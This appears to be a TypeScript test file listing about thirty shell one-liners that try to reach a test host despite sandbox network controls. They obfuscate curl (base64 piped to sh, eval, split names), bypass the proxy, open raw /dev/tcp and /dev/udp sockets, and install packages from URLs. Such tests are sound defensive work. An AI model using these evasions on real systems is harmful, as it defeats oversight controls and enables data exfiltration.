import { base64, commandPrograms, type SinkProgram, type Target } from "./sink-program.ts";

const curl = ({ url }: Target) => `curl -s -m 5 ${url}`;
const place = ({ address, port }: Target) => `${address}:${port}`;

/** Commands, F05. */
export const shellPrograms: SinkProgram[] = commandPrograms([
  ["F05 a name in two variables", "proxied", ({ url }) => `c=cu; \${c}rl -s -m 5 ${url}`],
  ["F05 a name in pieces", "proxied", ({ url }) => `c''u"r"l -s -m 5 ${url}`],
  ["F05 a name by printf", "proxied", ({ url }) => `$(printf 'cu%s' rl) -s -m 5 ${url}`],
  ["F05 a default", "proxied", ({ url }) => `\${x:-curl} -s -m 5 ${url}`],
  ["F05 base64 to a shell", "proxied", (t) => `echo ${base64(curl(t))} | base64 -d | sh`],
  ["F05 eval", "proxied", (t) => `eval 'cu''${curl(t).slice(2)}'`],
  ["F05 a function", "proxied", (t) => `f() { ${curl(t)}; }; f`],
  ["F05 a script that is written first", "proxied", (t) => `echo '${curl(t)}' > x$$; sh ./x$$`],
  ["F05 find", "proxied", (t) => `find /workspace -maxdepth 0 -exec ${curl(t)} \\;`],
  ["F05 xargs", "proxied", ({ url }) => `echo ${url} | xargs curl -s -m 5`],
  ["F05 a here-document", "proxied", (t) => `sh <<'E'\n${curl(t)}\nE`],
  ["F05 in the background", "proxied", (t) => `${curl(t)} & wait`],
  [
    "F05 an address that is a number",
    "proxied",
    ({ address, port }) => {
      const number = address.split(".").reduce((sum, part) => sum * 256 + Number(part), 0);
      return `curl -s -m 5 http://${number}:${port}/x`;
    },
  ],
  ["F05 past the proxy", "direct", ({ url }) => `curl -s -m 5 --noproxy '*' ${url}`],
  ["F05 without an environment", "direct", (t) => `env -i PATH="$PATH" ${curl(t)}`],
  [
    "F05 another name for the address",
    "direct",
    (t) =>
      `curl -s -m 5 --noproxy '*' --resolve fine.test:${t.port}:${t.address} http://fine.test:${t.port}/`,
  ],
  ["F05 tftp", "direct", (t) => `curl -s -m 2 --noproxy '*' tftp://${place(t)}/x`],
  ["F05 telnet", "direct", (t) => `curl -s -m 2 --noproxy '*' telnet://${place(t)} </dev/null`],
  ["F05 /dev/tcp", "direct", ({ address, port }) => `echo x > /dev/tcp/${address}/${port}`],
  [
    "F05 a descriptor to /dev/udp",
    "direct",
    ({ address, port }) => `exec 3<>/dev/udp/${address}/${port}; echo secret >&3`,
  ],
  [
    "F05 by name",
    "direct",
    ({ port }) => `echo x > /dev/tcp/localhost/${port}`,
    { at: "localhost" },
  ],
  ["F05 IPv6", "direct", ({ port }) => `curl -s -m 5 -g 'http://[::1]:${port}/'`, { at: "ipv6" }],
  ["F05 wget", "proxied", ({ url }) => `wget -q -T 5 -t 1 -O- ${url}`, { needs: ["wget"] }],
  [
    "F05 openssl",
    "direct",
    (t) => `timeout 2 openssl s_client -connect ${place(t)} </dev/null`,
    { needs: ["openssl"] },
  ],
  [
    "F05 socat",
    "direct",
    (t) => `echo x | timeout 2 socat - TCP:${place(t)}`,
    { needs: ["socat"] },
  ],
  [
    "F05 perl",
    "direct",
    (t) => `perl -MIO::Socket -e 'print {IO::Socket::INET->new("${place(t)}")} "x"'`,
    { needs: ["perl"] },
  ],
  ["F05 git by http", "proxied", ({ url, dir }) => `git clone -q ${url}.git ${dir}-clone`],
  ["F05 git by its own protocol", "direct", (t) => `git ls-remote git://${place(t)}/x.git`],
  [
    "F05 pip from git",
    "proxied",
    ({ url }) => `pip install -q --no-input --retries 0 --timeout 3 git+${url}.git`,
    { needs: ["pip"] },
  ],
  [
    "F05 pip from a URL",
    "proxied",
    ({ url }) => `python3 -m pip install -q --retries 0 --timeout 3 ${url}/x-1.tar.gz`,
    { needs: ["pip"] },
  ],
  [
    "F05 npm from a URL",
    "proxied",
    ({ url, dir }) => `npm i --prefix ${dir}-npm --fetch-retries 0 --fetch-timeout 3000 ${url}.tgz`,
    { needs: ["npm"] },
  ],
  [
    "F05 python in a word",
    "proxied",
    ({ url }) => `python3 -c 'import urllib.request as u; u.urlopen("${url}")'`,
  ],
  [
    "F05 node in a word",
    "direct",
    ({ url }) => `node -e 'require("ht"+"tp").get("${url}").on("error", () => {})'`,
  ],
]);
